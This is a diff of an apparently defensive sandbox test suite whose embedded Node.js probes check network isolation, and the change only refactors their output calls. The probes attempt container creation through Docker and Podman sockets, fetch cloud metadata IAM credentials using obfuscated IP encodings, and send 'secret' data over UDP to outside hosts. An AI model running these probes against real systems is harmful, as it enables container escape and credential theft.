@@ -9,8 +9,8 @@ from attack_probe import Probe
 _REACH = r"""
 function reach(where, word = "GET / HTTP/1.0\r\n\r\n") {
   attempt(() => net.connect(where, function () { this.write(word) })
-    .on("data", (said) => fs.writeSync(1, said))
-    .on("error", (error) => fs.writeSync(1, `${error}\n`)))
+    .on("data", (said) => say(said))
+    .on("error", (error) => say(`${error}\n`)))
 }
 setTimeout(() => process.exit(), 1000)
 """
@@ -69,7 +69,7 @@ W.sockets.filter((name) => name.startsWith("/")).forEach((name, number) => {
 for (const socketPath of ["/run/docker.sock", "/var/run/docker.sock", "/run/podman/podman.sock",
   "/run/containerd/containerd.sock"])
   http.request({ socketPath, path: "/containers/create", method: "POST" })
-    .on("error", (error) => fs.writeSync(1, `${error}\\n`)).end("{}")
+    .on("error", (error) => say(`${error}\\n`)).end("{}")
 setTimeout(() => process.exit(), 700)
 """,
         limits=ROOM,
@@ -171,7 +171,8 @@ for (const host of ["::1", "::ffff:127.0.0.1", "::ffff:93.184.216.34", "2606:280
         """
 for (const host of ["169.254.169.254", "[::ffff:a9fe:a9fe]", "2852039166", "0xa9fea9fe",
   "inner.example", "[fd00:ec2::254]"])
-  fetch(`http://${host}/latest/meta-data/iam/`).then((got) => got.text()).then(console.log, console.log)
+  fetch(`http://${host}/latest/meta-data/iam/`).then((came) => came.text())
+    .then(console.log, console.log)
 setTimeout(() => process.exit(), 1000)
 """,
         limits=ROOM,
@@ -181,7 +182,7 @@ setTimeout(() => process.exit(), 1000)
         "tcp",
         "Each of Node's own clients has its own way to a server.",
         r"""
-const tell = (error) => fs.writeSync(1, `${error}\n`)
+const tell = (error) => say(`${error}\n`)
 http.get("http://localhost:8080/", (came) => came.pipe(process.stdout)).on("error", tell)
 http2.connect("http://127.0.0.1:8080").on("error", tell)
 fetch("http://127.0.0.1:8080/").then((came) => came.text()).then(tell, tell)
@@ -212,7 +213,7 @@ for (const [type, hosts] of [["udp4", ["127.0.0.1", "93.184.216.34", "255.255.25
     const socket = dgram.createSocket(type)
     socket.on("error", () => 0).bind(0, () => {
       attempt(() => socket.setBroadcast(true))
-      socket.send(Buffer.alloc(32, "\\0secret"), port, host, (error) => error && fs.writeSync(1, `${error}\\n`))
+      socket.send(Buffer.alloc(32, "\\0secret"), port, host, (error) => error && say(`${error}\\n`))
     })
   }
 setTimeout(() => process.exit(), 1000)
